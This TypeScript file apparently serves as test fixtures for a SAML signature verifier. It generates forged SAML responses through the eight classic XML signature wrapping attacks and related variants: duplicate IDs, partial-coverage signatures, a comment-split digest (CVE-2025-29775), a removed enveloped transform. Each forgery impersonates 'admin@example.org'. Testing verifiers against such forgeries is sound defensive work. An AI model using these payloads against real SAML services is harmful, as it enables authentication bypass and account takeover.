import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import * as saml from './samlBuilder';

const samlNs = 'urn:oasis:names:tc:SAML:2.0:assertion';
const dsNs = 'http://www.w3.org/2000/09/xmldsig#';
const evilId = '_evil';

/** The parts of a signed message, to be put together anew. */
interface Pieces {
  document: Document;
  response: Element;
  assertion: Element;
  signature: Element;
}

function take(xml: string): Pieces {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const first = (ns: string, name: string): Element => {
    const element = document.getElementsByTagNameNS(ns, name).item(0);
    if (element === null) throw new Error(`no ${name}`);
    return element;
  };
  return {
    document,
    response: document.documentElement,
    assertion: first(samlNs, 'Assertion'),
    signature: first(dsNs, 'Signature'),
  };
}

/** A copy with another user, another id and no signature: what the attacker wants to be read. */
function evilCopy(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.setAttribute('ID', evilId);
  const signature = copy.getElementsByTagNameNS(dsNs, 'Signature').item(0);
  signature?.parentNode?.removeChild(signature);
  const user = copy.getElementsByTagNameNS(samlNs, 'NameID').item(0);
  if (user !== null) user.textContent = 'admin@example.org';
  return copy;
}

function child(document: Document, ns: string, name: string, ...content: Node[]): Element {
  const element = document.createElementNS(ns, name);
  for (const node of content) element.appendChild(node);
  return element;
}

function text(document: Document | Element): string {
  return new XMLSerializer().serializeToString(document);
}

/**
 * The eight classic signature wrappings (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012): a message that
 * was rightly signed, rebuilt so that the signature still holds over the original while another part may be read. And their kin.
 */
export const wrappings = {
  'XSW1: the original response inside the signature of a forged one': () => {
    const { response, signature } = take(signed('Response'));
    const forged = evilCopy(response);
    const moved = signature.parentNode?.removeChild(signature) as Element;
    moved.appendChild(response);
    forged.insertBefore(moved, forged.firstChild?.nextSibling ?? null);
    return text(forged);
  },
  'XSW2: the original response beside its detached signature in a forged one': () => {
    const { response, signature } = take(signed('Response'));
    const forged = evilCopy(response);
    const moved = signature.parentNode?.removeChild(signature) as Element;
    forged.insertBefore(moved, forged.firstChild?.nextSibling ?? null);
    forged.insertBefore(response, moved);
    return text(forged);
  },
  'XSW3: a forged assertion before the original': () => {
    const { response, assertion } = take(signed('Assertion'));
    response.insertBefore(evilCopy(assertion), assertion);
    return text(response);
  },
  'XSW4: the original assertion inside a forged one': () => {
    const { response, assertion } = take(signed('Assertion'));
    const forged = evilCopy(assertion);
    response.replaceChild(forged, assertion);
    forged.appendChild(assertion);
    return text(response);
  },
  'XSW5: a forged assertion with the signature of the original behind it': () => {
    const { response, assertion, signature } = take(signed('Assertion'));
    const forged = evilCopy(assertion);
    forged.insertBefore(
      signature.parentNode?.removeChild(signature) as Element,
      forged.firstChild?.nextSibling ?? null,
    );
    response.insertBefore(forged, assertion);
    return text(response);
  },
  'XSW6: the original assertion inside the signature of a forged one': () => {
    const { response, assertion, signature } = take(signed('Assertion'));
    const forged = evilCopy(assertion);
    response.replaceChild(forged, assertion);
    const moved = signature.parentNode?.removeChild(signature) as Element;
    moved.appendChild(assertion);
    forged.insertBefore(moved, forged.firstChild?.nextSibling ?? null);
    return text(response);
  },
  'XSW7: a forged assertion in Extensions': () => {
    const { document, response, assertion } = take(signed('Assertion'));
    const forged = evilCopy(assertion);
    response.insertBefore(
      child(document, 'urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions', forged),
      response.firstChild?.nextSibling ?? null,
    );
    return text(response);
  },
  'XSW8: the original assertion in an Object of the signature': () => {
    const { document, response, assertion, signature } = take(signed('Assertion'));
    const forged = evilCopy(assertion);
    response.replaceChild(forged, assertion);
    const moved = signature.parentNode?.removeChild(signature) as Element;
    moved.appendChild(child(document, dsNs, 'Object', assertion));
    forged.insertBefore(moved, forged.firstChild?.nextSibling ?? null);
    return text(response);
  },
  'a forged assertion with the id of the original': () => {
    const { response, assertion } = take(signed('Assertion'));
    const forged = evilCopy(assertion);
    forged.setAttribute('ID', assertion.getAttribute('ID') ?? '');
    response.insertBefore(forged, assertion);
    return text(response);
  },
  'a part of the response with the id of the assertion': () => {
    const { response, assertion } = take(signed('Assertion'));
    response.setAttribute('ID', assertion.getAttribute('ID') ?? '');
    return text(response);
  },
  'the signature over the status alone': () => {
    const xml = saml.responseXml(saml.assertionXml(), {
      status: saml.success.replace('<samlp:Status>', '<samlp:Status ID="_s">'),
    });
    return saml.sign(xml, { element: 'Status', place: "//*[local-name(.)='Response']/*[local-name(.)='Issuer']" });
  },
  'the signature over the subject alone': () => {
    const xml = saml.responseXml(saml.assertionXml()).replace('<saml:Subject>', '<saml:Subject ID="_s">');
    return saml.sign(xml, { element: 'Subject', place: "//*[local-name(.)='Assertion']/*[local-name(.)='Issuer']" });
  },
  'the signature of the assertion moved up to the response': () => {
    const { response, signature } = take(signed('Assertion'));
    response.insertBefore(signature, response.firstChild?.nextSibling ?? null);
    return text(response);
  },
  'two signatures on the assertion': () => {
    const { response, signature } = take(signed('Assertion'));
    signature.parentNode?.insertBefore(signature.cloneNode(true), signature);
    return text(response);
  },
  'a second reference in the signature': () => {
    const { response, signature } = take(signed('Assertion'));
    const reference = signature.getElementsByTagNameNS(dsNs, 'Reference').item(0);
    reference?.parentNode?.appendChild(reference.cloneNode(true));
    return text(response);
  },
  'a second SignedInfo hidden in the KeyInfo': () => {
    const { response, signature } = take(signed('Assertion'));
    const info = signature.getElementsByTagNameNS(dsNs, 'SignedInfo').item(0);
    if (info !== null) signature.getElementsByTagNameNS(dsNs, 'KeyInfo').item(0)?.appendChild(info.cloneNode(true));
    return text(response);
  },
  'a digest that a comment cuts in two (CVE-2025-29775)': () => {
    const xml = signed('Assertion');
    return xml.replace('<DigestValue>', '<DigestValue><!--AAAA-->');
  },
  'a reference to the whole document': () => signed('Assertion').replace(/<Reference URI="[^"]*"/, '<Reference URI=""'),
  'no enveloped transform': () =>
    signed('Assertion').replace('<Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>', ''),
} satisfies Record<string, () => string>;

function signed(element: 'Assertion' | 'Response'): string {
  return saml.sign(saml.responseXml(saml.assertionXml()), { element });
}
